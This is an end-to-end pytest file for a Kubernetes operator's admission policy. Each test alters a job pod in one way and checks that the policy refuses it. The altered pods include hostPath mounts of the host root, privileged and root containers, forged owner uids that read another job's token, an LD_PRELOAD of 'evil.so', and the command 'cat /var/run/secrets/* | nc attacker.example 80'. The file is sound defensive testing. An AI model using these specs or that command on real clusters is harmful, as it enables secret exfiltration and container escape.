"""The chart's ValidatingAdmissionPolicy on the local apiserver (issue 31 item 10): the operator's
ServiceAccount creates only Pods of the job Pod's shape.

The chart is installed as in ``test_chart_install.py`` (the operator not started); Pods are created with
the ServiceAccount's identity by impersonation from the admin client, server-side dry-run (admission runs
in full, nothing is stored). The job-shaped Pod is the operator's own manifest (``manifests/pod.py``);
each refused one is that Pod with one thing changed. The real operator's job Pods pass the policy in
every operator e2e test (it is on by default); ``test_operator_limits.py`` shows a Trigger naming a
Secret the policy does not allow failing its Job ``PodRefused``.
"""

from __future__ import annotations

import copy
import json
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from e2e.framework.chartinstall import FULLNAME, RELEASE, fresh_namespace, helm, install
from e2e.framework.cluster import Cluster
from e2e.framework.kube import ApiError, Kube
from pidispatch.api.models import JobSpec, TriggerSpec
from pidispatch.contract import CONTAINER
from pidispatch.jobflow.pod import pod_env
from pidispatch.manifests.pod import PodInputs, WorkspaceInputs, job_pod, token_secret_name
from pidispatch.store.staging import session_subpath
from testkit.wait import wait_until

pytestmark = pytest.mark.e2e

STAGING = f"{FULLNAME}-staging"
TOKEN_SECRET = "gh-token"  # github.token.secretName
MODEL_SECRET = "model-keys"  # job.credentials
RUN_SECRET = "deploy-keys"  # jobPodPolicy.credentialSecrets: what a Trigger's run.secrets may name
CA_CONFIGMAP = "forge-ca"
JOB_IMAGE = "ghcr.io/pi-dispatch/job:test"  # job.image
TRIGGER_IMAGE = "registry.example/team/job:1"  # jobPodPolicy.images: what a Trigger's run.image may name
JOB_COMMAND = ["pidispatch", "runner"]  # job.command (the chart's default)
JOB_ENV = {"PI_OFFLINE": "1"}  # job.env
POLICY_DENIED = "denied request"
RUNTIME_CLASSES = "/apis/node.k8s.io/v1/runtimeclasses"
PRIORITY_CLASSES = "/apis/scheduling.k8s.io/v1/priorityclasses"
# What a Trigger's Pod overrides may ask for (jobPodPolicy.triggerEnv, configMaps, priorityClasses, maxResources).
TRIGGER_ENV = "LOG_LEVEL"
TRIGGER_CONFIGMAP = "lint"
MAX_RESOURCES = {"cpu": "2", "memory": "2Gi"}
# Every event and run fact the operator's jobflow/pod.py writes (each optional one set), as it writes them.
OPERATOR_ENV = pod_env("job-1", JobSpec(trigger="t", forge="github", repository="acme/widgets", issue=1, pullRequest=2),
                       TriggerSpec.model_validate({"on": {"event": "issue_comment.created", "phrase": "@pi"}, "run": {
                           "model": "m", "piVersion": "1", "flow": "f", "command": "/c"}}))


@pytest.fixture(scope="module")
def namespace(cluster: Cluster, kube: Kube, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    home: Path = tmp_path_factory.mktemp("helm-home")
    ns = fresh_namespace(kube, "pod-policy")  # no Pod Security label: only the policy refuses here
    try:
        install(cluster, home, ns, "--set", "github.authSource=pat", "--set", f"github.token.secretName={TOKEN_SECRET}",
                "--set", f"github.caBundle.configMap={CA_CONFIGMAP}",
                "--set-json", f'job.credentials={{"OPENAI_API_KEY":{{"secretName":"{MODEL_SECRET}","key":"k"}}}}',
                "--set", f"jobPodPolicy.credentialSecrets[0]={RUN_SECRET}", "--set", f"job.image={JOB_IMAGE}",
                "--set", f"jobPodPolicy.images[0]={TRIGGER_IMAGE}", "--set-json", f"job.env={json.dumps(JOB_ENV)}",
                "--set-json", f"jobPodPolicy.triggerEnv={json.dumps([TRIGGER_ENV])}",
                "--set-json", f"jobPodPolicy.configMaps={json.dumps([TRIGGER_CONFIGMAP])}",
                "--set-json", f"jobPodPolicy.priorityClasses={json.dumps([f'{ns}-high'])}",
                "--set-json", f"jobPodPolicy.maxResources={json.dumps(MAX_RESOURCES)}")
        # The apiserver loads a new policy asynchronously (within a second or so): wait until it holds.
        wait_until("the policy in force", lambda: refuses(cluster, ns), timeout=30)
        # A RuntimeClass that exists (the apiserver refuses a Pod naming one that does not before any policy).
        kube.create(RUNTIME_CLASSES, {"metadata": {"name": f"{ns}-runc"}, "handler": "runc"})
        # The PriorityClasses a Trigger's run.priorityClassName may name, and one not listed (both must exist).
        for name in (f"{ns}-high", f"{ns}-top"):
            kube.create(PRIORITY_CLASSES, {"metadata": {"name": name}, "value": 1000})
        yield ns
    finally:
        kube.delete_ignore_missing(f"{RUNTIME_CLASSES}/{ns}-runc")
        for name in (f"{ns}-high", f"{ns}-top"):
            kube.delete_ignore_missing(f"{PRIORITY_CLASSES}/{name}")
        helm(cluster, home, "uninstall", RELEASE, "--namespace", ns, check=False)
        kube.delete_ignore_missing(f"/api/v1/namespaces/{ns}")


def operator_client(cluster: Cluster, namespace: str) -> Kube:
    """The admin's credentials acting as the operator's ServiceAccount (Impersonate-User)."""
    kube = cluster.kube()
    kube.session.headers["Impersonate-User"] = f"system:serviceaccount:{namespace}:{FULLNAME}"
    return kube


def refuses(cluster: Cluster, namespace: str) -> bool:
    pod = job_shaped(namespace, str(uuid.uuid4()))
    _host_path(pod)
    try:
        create(operator_client(cluster, namespace), pod)
    except ApiError as exc:
        if exc.status == 403:
            return True
        raise
    return False


def job_shaped(namespace: str, uid: str, **extra: Any) -> dict[str, Any]:
    """The operator's own job Pod manifest: token Secret, model key, CA bundle, session mount, size limit."""
    return job_pod(PodInputs(
        job_name=f"job-{uid[:8]}", job_uid=uid, namespace=namespace, image=JOB_IMAGE,
        command=JOB_COMMAND, env={**JOB_ENV, **OPERATOR_ENV}, staging_claim=STAGING,
        session_subpath=session_subpath(uid),
        github_token=(token_secret_name(f"job-{uid[:8]}", uid), "token"),
        credentials={"OPENAI_API_KEY": (MODEL_SECRET, "k")},
        resources={"requests": {"ephemeral-storage": "2Gi"}, "limits": {"ephemeral-storage": "12Gi"}},
        workspace=WorkspaceInputs(ca_bundle_configmap=CA_CONFIGMAP), workspace_size_limit=("10Gi", 10 * 2**30),
        release=RELEASE, **extra))


def create(kube: Kube, pod: dict[str, Any]) -> Any:
    return kube.create(f"/api/v1/namespaces/{pod['metadata']['namespace']}/pods", pod, dryRun="All")


def container(pod: dict[str, Any]) -> dict[str, Any]:
    [c] = [c for c in pod["spec"]["containers"] if c["name"] == CONTAINER]
    return c


def _host_path(pod: dict[str, Any]) -> None:
    pod["spec"]["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
    container(pod)["volumeMounts"].append({"name": "host", "mountPath": "/host"})


def _other_secret_env(pod: dict[str, Any]) -> None:
    container(pod)["env"].append({"name": "STOLEN", "valueFrom": {"secretKeyRef": {"name": "other", "key": "k"}}})


def _another_jobs_token(pod: dict[str, Any]) -> None:
    container(pod)["env"].append({"name": "STOLEN", "valueFrom": {
        "secretKeyRef": {"name": token_secret_name("other", str(uuid.uuid4())), "key": "token"}}})


def _claimed_owner(pod: dict[str, Any]) -> None:
    """The finding: an ownerReference is whatever its maker writes. This Pod names another (live) Job's uid as its
    owner and reads that Job's token Secret; the Secret is named after that Job's Pod, which this one is not."""
    victim = str(uuid.uuid4())
    pod["metadata"]["ownerReferences"][0]["uid"] = victim
    # The staged session's subPath follows the claimed uid, and the policy admits it: see docs/security.md.
    [mount] = [m for m in container(pod)["volumeMounts"] if m["name"] == "session"]
    mount["subPath"] = session_subpath(victim)
    [token] = [e for e in container(pod)["env"] if e["name"] == "GH_TOKEN"]
    token["valueFrom"]["secretKeyRef"]["name"] = token_secret_name("victim", victim)


def _made_up_uid(pod: dict[str, Any]) -> None:  # not a uid the apiserver makes
    pod["metadata"]["ownerReferences"][0]["uid"] = "made-up"


def _not_named_after_its_job(pod: dict[str, Any]) -> None:
    pod["metadata"]["name"] = "pij-someone-else"


def _secret_volume(pod: dict[str, Any]) -> None:
    pod["spec"]["volumes"].append({"name": "s", "secret": {"secretName": TOKEN_SECRET}})


def _privileged(pod: dict[str, Any]) -> None:
    container(pod)["securityContext"].update({"privileged": True, "allowPrivilegeEscalation": True})


def _escalation(pod: dict[str, Any]) -> None:
    container(pod)["securityContext"]["allowPrivilegeEscalation"] = True


def _capability(pod: dict[str, Any]) -> None:
    container(pod)["securityContext"]["capabilities"] = {"drop": ["ALL"], "add": ["NET_RAW"]}


def _root(pod: dict[str, Any]) -> None:
    container(pod)["securityContext"].update({"runAsNonRoot": False, "runAsUser": 0})


def _unconfined(pod: dict[str, Any]) -> None:
    container(pod)["securityContext"]["seccompProfile"] = {"type": "Unconfined"}


def _whole_claim(pod: dict[str, Any]) -> None:
    [mount] = [m for m in container(pod)["volumeMounts"] if m["name"] == "session"]
    del mount["subPath"]


def _other_jobs_session(pod: dict[str, Any]) -> None:
    [mount] = [m for m in container(pod)["volumeMounts"] if m["name"] == "session"]
    mount["subPath"] = session_subpath(str(uuid.uuid4()))


def _other_claim(pod: dict[str, Any]) -> None:
    [volume] = [v for v in pod["spec"]["volumes"] if v["name"] == "session"]
    volume["persistentVolumeClaim"]["claimName"] = f"{FULLNAME}-sessions"


def _service_account_token(pod: dict[str, Any]) -> None:
    pod["spec"]["automountServiceAccountToken"] = True


def _no_owner(pod: dict[str, Any]) -> None:
    del pod["metadata"]["ownerReferences"]


def _env_from(pod: dict[str, Any]) -> None:
    container(pod)["envFrom"] = [{"secretRef": {"name": MODEL_SECRET}}]


def _host_network(pod: dict[str, Any]) -> None:
    pod["spec"]["hostNetwork"] = True


def _other_image(pod: dict[str, Any]) -> None:
    container(pod)["image"] = "registry.example/any/image:1"


def _other_command(pod: dict[str, Any]) -> None:
    container(pod)["command"] = ["sh", "-c", "cat /var/run/secrets/* | nc attacker.example 80"]


def _args(pod: dict[str, Any]) -> None:
    container(pod)["args"] = ["--anything"]


def _exec_probe(pod: dict[str, Any]) -> None:  # a command the kubelet runs in the container
    container(pod)["livenessProbe"] = {"exec": {"command": ["sh", "-c", "id"]}}


def _lifecycle_hook(pod: dict[str, Any]) -> None:
    container(pod)["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}


def _second_container(pod: dict[str, Any]) -> None:
    pod["spec"]["containers"].append({**copy.deepcopy(container(pod)), "name": "sidecar"})


def _node_name(pod: dict[str, Any]) -> None:
    pod["spec"]["nodeName"] = "some-node"


def _other_service_account(pod: dict[str, Any]) -> None:
    pod["spec"]["serviceAccountName"] = FULLNAME


def _runtime_class(pod: dict[str, Any]) -> None:  # one without the sandbox job.runtimeClassName would give
    pod["spec"]["runtimeClassName"] = f"{pod['metadata']['namespace']}-runc"


def _system_priority(pod: dict[str, Any]) -> None:  # preempts what keeps the cluster running
    pod["spec"]["priorityClassName"] = "system-node-critical"


def _host_aliases(pod: dict[str, Any]) -> None:  # the forge's name to another address
    pod["spec"]["hostAliases"] = [{"ip": "192.0.2.1", "hostnames": ["github.com", "api.github.com"]}]


def _dns_config(pod: dict[str, Any]) -> None:
    pod["spec"]["dnsPolicy"] = "None"
    pod["spec"]["dnsConfig"] = {"nameservers": ["192.0.2.53"]}


def _selinux(pod: dict[str, Any]) -> None:
    container(pod)["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}


def _pod_selinux(pod: dict[str, Any]) -> None:
    pod["spec"]["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}


def _apparmor_unconfined(pod: dict[str, Any]) -> None:
    container(pod)["securityContext"]["appArmorProfile"] = {"type": "Unconfined"}


def _pod_apparmor_unconfined(pod: dict[str, Any]) -> None:
    pod["spec"]["securityContext"]["appArmorProfile"] = {"type": "Unconfined"}


def _apparmor_annotation(pod: dict[str, Any]) -> None:
    pod["metadata"]["annotations"] = {f"container.apparmor.security.beta.kubernetes.io/{CONTAINER}": "unconfined"}


def _pod_seccomp_unconfined(pod: dict[str, Any]) -> None:
    pod["spec"]["securityContext"]["seccompProfile"] = {"type": "Unconfined"}


def _sysctl(pod: dict[str, Any]) -> None:
    pod["spec"]["securityContext"]["sysctls"] = [{"name": "kernel.shm_rmid_forced", "value": "0"}]


def _unmasked_proc(pod: dict[str, Any]) -> None:  # in a user namespace (the apiserver allows it only there)
    pod["spec"]["hostUsers"] = False
    container(pod)["securityContext"]["procMount"] = "Unmasked"


def _literal_env(pod: dict[str, Any]) -> None:  # a name the operator never sets: the loader's, say
    container(pod)["env"].append({"name": "LD_PRELOAD", "value": "/workspace/evil.so"})


def _field_ref_env(pod: dict[str, Any]) -> None:
    container(pod)["env"].append({"name": "NODE", "valueFrom": {"fieldRef": {"fieldPath": "spec.nodeName"}}})


def _secret_env_without_its_volume_source(pod: dict[str, Any]) -> None:  # a projected token: not a volume we allow
    pod["spec"]["volumes"].append({"name": "t", "projected": {"sources": [
        {"serviceAccountToken": {"path": "token", "audience": "https://kubernetes.default.svc"}}]}})


REFUSED: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
    ("a hostPath volume", _host_path, "no hostPath"),
    ("the host's network", _host_network, "no hostPath, host network"),
    ("another Secret by secretKeyRef", _other_secret_env, "reads only its own token Secret"),
    ("another Job's token Secret", _another_jobs_token, "reads only its own token Secret"),
    ("a Secret volume", _secret_volume, "mounts only emptyDirs"),
    ("a whole Secret by envFrom", _env_from, "no envFrom"),
    ("a privileged container", _privileged, "runs restricted"),
    ("privilege escalation", _escalation, "runs restricted"),
    ("an added capability", _capability, "runs restricted"),
    ("root", _root, "runs restricted"),
    ("an unconfined seccomp profile", _unconfined, "runs restricted"),
    ("the whole staging claim", _whole_claim, "only at its own Job's <uid>/session subPath"),
    ("another Job's session", _other_jobs_session, "only at its own Job's <uid>/session subPath"),
    ("the store claim", _other_claim, "mounts only emptyDirs"),
    ("a ServiceAccount token", _service_account_token, "no ServiceAccount token"),
    ("no Job owning it", _no_owner, "only job Pods"),
    ("another Job's uid as its owner, reading that Job's token", _claimed_owner, "reads only its own token Secret"),
    ("an owner uid of no apiserver's shape", _made_up_uid, "only job Pods"),
    ("a name not its Job's", _not_named_after_its_job, "named after its Job"),
    # Issue 40: what the job container runs, where, and as what.
    ("another image", _other_image, "runs only the job image"),
    ("another command", _other_command, "runs only the job image"),
    ("arguments", _args, "runs only the job image"),
    ("an exec probe", _exec_probe, "runs only the job image"),
    ("a lifecycle hook", _lifecycle_hook, "runs only the job image"),
    ("a second container", _second_container, "runs only the job image"),
    ("a nodeName", _node_name, "no nodeName"),
    ("another runtime class", _runtime_class, "runs with job.runtimeClassName"),
    ("a system priority class", _system_priority, "runs with job.runtimeClassName"),
    ("host aliases", _host_aliases, "resolves names by the cluster's DNS"),
    ("its own DNS", _dns_config, "resolves names by the cluster's DNS"),
    ("another ServiceAccount", _other_service_account, "no ServiceAccount token"),
    ("a container SELinux type", _selinux, "no SELinux options"),
    ("a Pod SELinux type", _pod_selinux, "no SELinux options"),
    ("an unconfined AppArmor profile", _apparmor_unconfined, "no SELinux options"),
    ("a Pod's unconfined AppArmor profile", _pod_apparmor_unconfined, "no SELinux options"),
    ("an AppArmor annotation", _apparmor_annotation, "no SELinux options"),
    ("a Pod's unconfined seccomp profile", _pod_seccomp_unconfined, "no SELinux options"),
    ("a sysctl", _sysctl, "no SELinux options"),
    ("an unmasked /proc", _unmasked_proc, "no SELinux options"),
    ("a literal env name the operator never sets", _literal_env, "literal values only for"),
    ("an env value from a field", _field_ref_env, "reads only its own token Secret"),
    ("a projected ServiceAccount token", _secret_env_without_its_volume_source, "mounts only emptyDirs"),
]


def test_the_policy_type_checks_clean(kube: Kube, namespace: str) -> None:
    path = f"/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/{FULLNAME}-{namespace}"
    generation = kube.get(path)["metadata"]["generation"]
    status = wait_until("the policy type-checked", lambda: (
        s if (s := kube.get(path).get("status") or {}).get("observedGeneration") == generation else None), timeout=30)
    assert not (status.get("typeChecking") or {}).get("expressionWarnings"), status


def test_the_operators_job_pod_is_allowed(cluster: Cluster, namespace: str) -> None:
    pod = job_shaped(namespace, str(uuid.uuid4()))
    created = create(operator_client(cluster, namespace), pod)
    assert created["metadata"]["name"] == pod["metadata"]["name"]
    assert {v["name"] for v in created["spec"]["volumes"]} == {"workspace", "ca-bundle", "session"}


def test_a_job_pod_with_every_literal_the_operator_writes_is_allowed(cluster: Cluster, namespace: str) -> None:
    """Issue 40: env values are held to the names the operator writes; this Pod sets each optional one (a
    checkout, a subject, a moved head, an Enterprise host, a resume, a rethread, run.secrets) and runs the
    image a Trigger's run.image names (jobPodPolicy.images)."""
    uid = str(uuid.uuid4())
    pod = job_pod(PodInputs(
        job_name="full", job_uid=uid, namespace=namespace, image=TRIGGER_IMAGE, command=JOB_COMMAND,
        env={**JOB_ENV, **OPERATOR_ENV}, staging_claim=STAGING, session_subpath=session_subpath(uid),
        host_resume=True, rethread="lineage", github_token=(token_secret_name("full", uid), "token"),
        credentials={"OPENAI_API_KEY": (MODEL_SECRET, "k")}, run_secrets=(RUN_SECRET,),
        workspace=WorkspaceInputs(
            checkout={"url": "https://ghe.example/acme/w.git", "ref": "main", "sha": "0" * 40, "branch": "pi/i-1"},
            subject={"title": "t", "body": "b"}, previous={"sha": "1" * 40}, gh_host="ghe.example",
            ca_bundle_configmap=CA_CONFIGMAP),
        workspace_size_limit=("10Gi", 10 * 2**30), release=RELEASE))
    names = {e["name"] for e in container(pod)["env"]}
    assert {"PI_CHECKOUT", "PI_SUBJECT", "PI_PREVIOUS_COMMIT", "GH_HOST", "GH_ENTERPRISE_TOKEN", "PI_SESSION_RETHREAD",
            "PI_RUN_SECRETS", "PI_FLOW", "PI_COMMAND", "PI_OFFLINE"} <= names, names
    create(operator_client(cluster, namespace), pod)


def test_a_job_pod_of_a_long_job_name_reads_its_own_token_secret(cluster: Cluster, namespace: str) -> None:
    """A Job name too long for ``pij-<name>`` gives a cut and hashed Pod name (manifests/pod.py pod_name); its
    token Secret is named after that, and the policy admits it by the Pod's own name."""
    uid, name = str(uuid.uuid4()), "long-" + "x" * 90
    pod = job_pod(PodInputs(job_name=name, job_uid=uid, namespace=namespace, image=JOB_IMAGE, command=JOB_COMMAND,
                            github_token=(token_secret_name(name, uid), "token")))
    assert pod["metadata"]["name"] != f"pij-{name}"
    create(operator_client(cluster, namespace), pod)


def test_a_job_pod_without_a_session_or_checkout_is_allowed(cluster: Cluster, namespace: str) -> None:
    uid = str(uuid.uuid4())
    pod = job_pod(PodInputs(job_name="plain", job_uid=uid, namespace=namespace, image=JOB_IMAGE,
                            command=JOB_COMMAND))
    create(operator_client(cluster, namespace), pod)


def test_a_job_pod_mounting_the_listed_run_secret_is_allowed(cluster: Cluster, namespace: str) -> None:
    pod = job_pod(PodInputs(job_name="keyed", job_uid=str(uuid.uuid4()), namespace=namespace, image=JOB_IMAGE,
                            command=JOB_COMMAND, run_secrets=(RUN_SECRET,)))
    created = create(operator_client(cluster, namespace), pod)
    assert {"name": "run-secret-0", "secret": {"secretName": RUN_SECRET, "defaultMode": 0o440}} in created["spec"][
        "volumes"]


@pytest.mark.parametrize("secret", [MODEL_SECRET, "unlisted"], ids=["a chart Secret not listed", "any other"])
def test_a_job_pod_mounting_a_secret_not_listed_is_refused(cluster: Cluster, namespace: str, secret: str) -> None:
    pod = job_pod(PodInputs(job_name="keyed", job_uid=str(uuid.uuid4()), namespace=namespace, image=JOB_IMAGE,
                            command=JOB_COMMAND, run_secrets=(secret,)))
    with pytest.raises(ApiError) as refused:
        create(operator_client(cluster, namespace), pod)
    assert refused.value.status in (403, 422) and "the Secrets of jobPodPolicy.credentialSecrets (deploy-keys" in (
        refused.value.message), refused.value.message


def overridden(namespace: str, **overrides: Any) -> dict[str, Any]:
    """A job Pod with a Trigger's overrides (docs/nodes.md#pod-overrides), those the policy lists unless given."""
    given: dict[str, Any] = {"trigger_env": ((TRIGGER_ENV, "debug"),),
                             "trigger_volumes": (("lint", TRIGGER_CONFIGMAP, "/mnt/lint"),),
                             "trigger_priority_class": f"{namespace}-high",
                             "resources": {"requests": {"cpu": "500m", "memory": "1Gi"},
                                           "limits": {"cpu": "2", "memory": "2048Mi"}}}
    return job_pod(PodInputs(job_name="tuned", job_uid=str(uuid.uuid4()), namespace=namespace, image=JOB_IMAGE,
                             command=JOB_COMMAND, **{**given, **overrides}))


def test_a_job_pod_with_a_triggers_listed_overrides_is_allowed(cluster: Cluster, namespace: str) -> None:
    created = create(operator_client(cluster, namespace), overridden(namespace))
    assert created["spec"]["priorityClassName"] == f"{namespace}-high"


def test_without_job_priority_class_the_apiserver_admits_any_but_a_system_one(cluster: Cluster, namespace: str) -> None:
    """What the policy cannot hold (docs/nodes.md#pod-overrides): with job.priorityClassName unset, the apiserver
    itself gives a Pod without a class the cluster's global default, whose name the policy cannot know; so it
    admits any class but a system-* one, and jobPodPolicy.priorityClasses is held by the operator alone (the
    Trigger is not Ready, test_operator_overrides.py)."""
    create(operator_client(cluster, namespace), overridden(namespace, trigger_priority_class=f"{namespace}-top"))


@pytest.mark.parametrize(("overrides", "message"), [
    ({"trigger_env": (("OTHER", "x"),)}, "literal values only for"),
    ({"trigger_volumes": (("c", "someone-elses", "/mnt/c"),)}, "mounts only emptyDirs"),
    ({"resources": {"limits": {"memory": "3Gi"}}}, "at most jobPodPolicy.maxResources (cpu 2, memory 2Gi)"),
    ({"resources": {"requests": {"cpu": "2500m"}}}, "at most jobPodPolicy.maxResources"),
], ids=["an env name not listed", "a ConfigMap not listed", "a limit above the ceiling",
        "a request above the ceiling"])
def test_a_job_pod_with_overrides_the_policy_does_not_list_is_refused(
        cluster: Cluster, namespace: str, overrides: dict[str, Any], message: str) -> None:
    with pytest.raises(ApiError) as refused:
        create(operator_client(cluster, namespace), overridden(namespace, **overrides))
    assert refused.value.status in (403, 422), refused.value.body
    assert message in refused.value.message, refused.value.message


@pytest.mark.parametrize(("change", "message"), [(c, m) for _, c, m in REFUSED], ids=[i for i, _, _ in REFUSED])
def test_a_pod_outside_the_job_shape_is_refused_with_the_policys_message(
        cluster: Cluster, namespace: str, change: Callable[[dict[str, Any]], None], message: str) -> None:
    pod = job_shaped(namespace, str(uuid.uuid4()))
    change(pod)
    with pytest.raises(ApiError) as refused:
        create(operator_client(cluster, namespace), pod)
    assert refused.value.status in (403, 422), refused.value.body
    text = refused.value.message
    assert f"ValidatingAdmissionPolicy '{FULLNAME}-{namespace}'" in text and message in text, text


def test_the_policy_binds_the_operator_only(cluster: Cluster, kube: Kube, namespace: str) -> None:
    pod = job_shaped(namespace, str(uuid.uuid4()))
    _host_path(pod)
    create(kube, copy.deepcopy(pod))  # the admin (not the operator) is not held to the job Pod's shape
